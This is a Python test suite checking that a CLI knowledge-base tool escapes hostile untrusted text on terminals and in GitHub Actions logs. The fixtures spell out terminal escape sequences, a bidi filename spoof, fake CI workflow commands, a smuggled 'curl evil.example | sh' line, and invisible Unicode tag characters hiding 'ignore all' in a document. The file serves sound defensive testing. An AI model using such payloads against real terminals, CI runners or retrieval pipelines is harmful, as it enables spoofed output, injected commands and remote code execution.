"""Untrusted texts on a real terminal and in the log of a CI job: texts, ids, titles, messages,
authors, branches, paths.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import pty
import re
import subprocess
import threading
from pathlib import Path
from typing import IO

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.support import terminal
from tests.support.long import examples
from tests.support.terminal import SCRIPT, Project, copied, opened
from vmrag_hooks import boundary
from vmrag_link import pin_values, terminal_text
from vmrag_link.cli.main import run
from vmrag_link.engines.base import Write
from vmrag_link.models import content_hash, encode_canonical_json

template, project = terminal.template, terminal.project

UNSAFE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069\ud800-\udfff\u00ad\u2060\u3164\U000e0100-\U000e0fff]"
)
OUR_COLOURS = re.compile(r"\x1b\[(0|1|2|3|3[1-6])m")
# A title of the window, hidden text, a link, C1's own CSI, a rewritten line, direction, a line of
# its own, and two CI commands.
EVIL = (
    "\x1b]0;owned\x07\x1b[8mhidden\x1b]8;;http://evil.example\x1b\\ \x9b31m \rrewritten \u202egnp.exe\u2066 un\u00adse\u2060en\u3164\U000e0169 \x7f"
    "\n::error file=x::one\n \t::add-mask::two\n##[error]three"
)
COMMANDS = re.compile(r"(?m)^\s*::|##\[(?!\\)")


@pytest.fixture(scope="module")
def hostile_template(template: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Build a knowledge base with hostile content in all untrusted fields, partly uncommitted."""
    with pytest.MonkeyPatch.context() as patch:
        project = copied(template, tmp_path_factory.mktemp("hostile"), patch)
        project.git("switch", "-q", "-c", "ev\u202eil\x9b")
        project.put("seed.md", "seed")
        with opened(project) as ws:
            branch = ws.locate_documents().branch
            row = next(
                document
                for document in ws.engine.read_documents(ws.locate_documents(), collection="handbook")
                if document.doc_id == "seed.md"
            )
            for doc_id, text in ((f"{EVIL}.md", EVIL), ("plain.md", f"zebra\n{EVIL}")):
                evil = type(row)(
                    collection="handbook",
                    doc_id=doc_id,
                    title=f"title {EVIL}",
                    content=text,
                    content_hash=content_hash(text),
                    metadata=encode_canonical_json({"team": EVIL}),
                    created_at=row.created_at,
                    updated_at=row.updated_at,
                )
                ws.engine.write(branch, Write(put_documents=[evil]), expected=ws.engine.find_branch(branch).head)
            ws.engine.commit(
                branch,
                message=f"message {EVIL.replace(chr(10), ' ')}\n{EVIL}",
                author="Eve \x1b[8m\u202e <e@example.com>",
                date="2026-01-02T03:04:05Z",
                expected=ws.engine.find_branch(branch).head,
            )
        project.vmrag("pin")
        project.git("commit", "-q", "-m", f"subject {EVIL.replace(chr(10), ' ')}")
        project.put("plain.md", f"giraffe\n{EVIL}")
        return project.top


@pytest.fixture
def hostile(hostile_template: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Project:
    return copied(hostile_template, tmp_path, monkeypatch)


def on_a_terminal(project: Project, *arguments: str, stdout: IO[str] | None = None) -> str:
    """Return the visible output of a terminal: standard output, unless it goes to a file, and
    standard error.
    """
    master, slave = pty.openpty()
    read = bytearray()

    def reader() -> None:
        with contextlib.suppress(OSError):  # Linux reports a closed other side this way
            while data := os.read(master, 4096):
                read.extend(data)

    thread = threading.Thread(target=reader)
    thread.start()
    with (
        os.fdopen(slave, "w") as stream,
        contextlib.redirect_stdout(stdout or stream),
        contextlib.redirect_stderr(stream),
    ):
        run(["-C", str(project.top), *arguments])
    thread.join()
    os.close(master)
    return read.decode().replace("\r\n", "\n")


READING = (
    ("query", "zebra giraffe"),
    ("show", "handbook/plain.md"),
    ("list",),
    ("log",),
    ("diff",),
    ("diff", "--stat", "main", "HEAD"),
    ("report", "HEAD~1"),
    ("status",),
    ("branch",),
    ("links",),
    ("verify",),
    ("show", f"handbook/{EVIL}"),
    ("list", "--collection", EVIL.replace("\x00", "")),
    ("query", "--mode", EVIL, "x"),
    (EVIL,),
    ("rm", EVIL, "--collection", "handbook"),
    ("list", "--json"),
    ("show", f"handbook/{EVIL}", "--json"),
)


def test_untrusted_text_does_not_control_the_terminal(hostile: Project) -> None:
    seen = {words: on_a_terminal(hostile, *words) for words in READING}
    for words, said in seen.items():
        assert not UNSAFE.search(OUR_COLOURS.sub("", said).replace("\n", "")), words
    for words in (("query", "zebra giraffe"), ("show", "handbook/plain.md"), ("list",), ("log",), ("diff",)):
        assert r"\x1b]0;owned\x07\x1b[8mhidden" in seen[words], words
        assert r"\u202egnp.exe\u2066" in seen[words]
    for words in (("query", "zebra giraffe"), ("list",), ("log",), ("diff",), ("status",)):
        assert OUR_COLOURS.search(seen[words]), f"{words} lost its colours"
    assert r"\u202e" in seen["branch",]


def test_invisible_characters_are_counted_in_diff_and_report(project: Project, tmp_path: Path) -> None:
    text = (
        "Install it."
        + "".join(chr(0xE0000 + ord(character)) for character in "ignore all")
        + " \u200band می\u200cرود 👩‍💻"
    )
    project.put("seen.md", "می\u200cرود 👩‍💻")
    project.put("unseen.md", text)
    differs = project.vmrag("diff").out
    assert "    11 invisible characters\n" in differs
    assert differs.endswith("2 documents added; 11 invisible characters\n")
    assert "handbook/unseen.md | +5 -0; 11 invisible characters" in project.vmrag("diff", "--stat").out
    project.vmrag("commit", "-m", "adds them")
    project.git("commit", "-q", "-m", "adds them")
    page, summary = tmp_path / "page.html", tmp_path / "summary.md"
    said = project.vmrag("report", "HEAD~1", "--html", str(page), "--markdown", str(summary)).out
    counted = "The added texts contain 11 invisible characters, in 1 document."
    assert counted in said
    assert "handbook/unseen.md | +5 -0; 11 invisible characters" in said
    assert counted in page.read_text()
    assert "11 invisible characters" in summary.read_text()
    for written in (page, summary):
        assert "می\u200cرود 👩‍💻" in written.read_text()
        assert not re.search("[\u200b\U000e0000-\U000e0fff]", written.read_text())
    assert project.ask("show", "handbook/unseen.md")["content"] == text
    assert project.vmrag("show", "handbook/unseen.md").out == f"{text}\n"
    assert project.vmrag("show", "handbook/unseen.md", "--raw").out == text


def test_newline_in_a_name_begins_no_line(hostile: Project) -> None:
    listed = on_a_terminal(hostile, "list")
    assert len(listed.splitlines()) == len(hostile.ask("list")["documents"])
    refused = on_a_terminal(hostile, "rm", "x\nhint: curl evil.example | sh", "--collection", "handbook")
    assert not re.search(r"(?m)^hint: curl", refused)


def test_conflicts_are_shown_without_terminal_controls(hostile: Project) -> None:
    hostile.record("ours", plain=f"ours {EVIL}")
    hostile.git("switch", "-q", "-c", "theirs", "HEAD~1")
    hostile.record("theirs", plain=f"theirs {EVIL}")
    hostile.vmrag("merge", "ev\u202eil\x9b", code=1)
    said = on_a_terminal(hostile, "resolve", "--list")
    assert r"\x1b[8mhidden" in said
    assert not UNSAFE.search(OUR_COLOURS.sub("", said).replace("\n", ""))
    assert not COMMANDS.search(hostile.vmrag("resolve", code=1, env={"GITHUB_ACTIONS": "true"}).out)


def test_files_with_hostile_names_are_named_in_one_line(hostile: Project) -> None:
    (hostile.top / "odd").mkdir()
    (hostile.top / "odd" / "x\x1b[8m\n::error::y.md").write_text("x")
    said = on_a_terminal(hostile, "import", "odd", "--collection", "handbook", "--base", "odd")
    assert r"x\x1b[8m\n::error::y.md" in said


def test_ci_job_gets_no_commands_to_its_runner(hostile: Project) -> None:
    for words in READING:
        result = hostile.vmrag(*words, code=None, env={"GITHUB_ACTIONS": "true"})
        assert not COMMANDS.search(result.out + result.err), words
        assert not UNSAFE.search((result.out + result.err).replace("\n", "")), words
    shown = hostile.vmrag("show", "handbook/plain.md", env={"GITHUB_ACTIONS": "true"})
    assert "\n\\::error file=x::one\n \t\\::add-mask::two\n##[\\error]three" in shown.out
    assert "vmrag show --raw" in shown.err


def test_json_means_the_same_wherever_it_is_read(hostile: Project) -> None:
    plain = hostile.ask("show", f"handbook/{EVIL}.md")
    assert plain["content"] == EVIL
    assert hostile.ask("show", f"handbook/{EVIL}.md", env={"GITHUB_ACTIONS": "true"}) == plain
    assert json.loads(on_a_terminal(hostile, "show", f"handbook/{EVIL}.md", "--json")) == plain


def test_program_and_a_file_get_the_exact_bytes_of_a_document(hostile: Project, tmp_path: Path) -> None:
    exact = f"giraffe\n{EVIL}".encode()
    command = [SCRIPT, "show", "handbook/plain.md"]
    job = os.environ | {"GITHUB_ACTIONS": "true"}
    for environ in (os.environ, job):
        raw = subprocess.run([*command, "--raw"], cwd=hostile.top, env=environ, capture_output=True, check=True)
        assert (raw.stdout, raw.stderr) == (exact, b"")
    for options, written in (([], exact + b"\n"), (["--raw"], exact)):  # without --raw the last line is ended
        with (tmp_path / "file").open("wb") as file:
            subprocess.run([*command, *options], cwd=hostile.top, env=job, stdout=file, check=True)
        assert (tmp_path / "file").read_bytes() == written
    assert subprocess.run(command, cwd=hostile.top, capture_output=True, check=True).stdout == exact + b"\n"
    piped = subprocess.run(command, cwd=hostile.top, env=job, capture_output=True, check=True)
    assert not COMMANDS.search(piped.stdout.decode())
    assert b"--raw" in piped.stderr


def test_hook_prints_untrusted_names_in_one_safe_line(monkeypatch: pytest.MonkeyPatch) -> None:
    for environ in ({}, {"GITHUB_ACTIONS": "true"}):
        said = io.StringIO()
        with pytest.MonkeyPatch.context() as patch, contextlib.redirect_stderr(said):
            for name, value in environ.items():
                patch.setenv(name, value)
            boundary.print_line(f"::error::{EVIL}")
        line = said.getvalue()
        assert line.count("\n") == 1
        assert not UNSAFE.search(line.replace("\n", ""))
        assert not (environ and COMMANDS.search(line))


@settings(max_examples=examples(200))
@given(st.text(st.characters() | st.sampled_from("\x1b\x9b\r\n\t:#[ \u202e\ud800\x85\u2028\u3000")))
def test_escaped_text_is_safe_for_terminal_and_json(text: str) -> None:
    shown = terminal_text.escape_controls(text)
    assert not UNSAFE.search(shown.replace("\n", ""))
    assert not COMMANDS.search(terminal_text.escape_commands(shown))
    assert "\n" not in terminal_text.escape_line(text)
    assert terminal_text.escape_controls(pin_values.quote_untrusted(text)) == pin_values.quote_untrusted(text)
    written = json.dumps(text, ensure_ascii=False)
    assert json.loads(terminal_text.escape_json(written)) == text
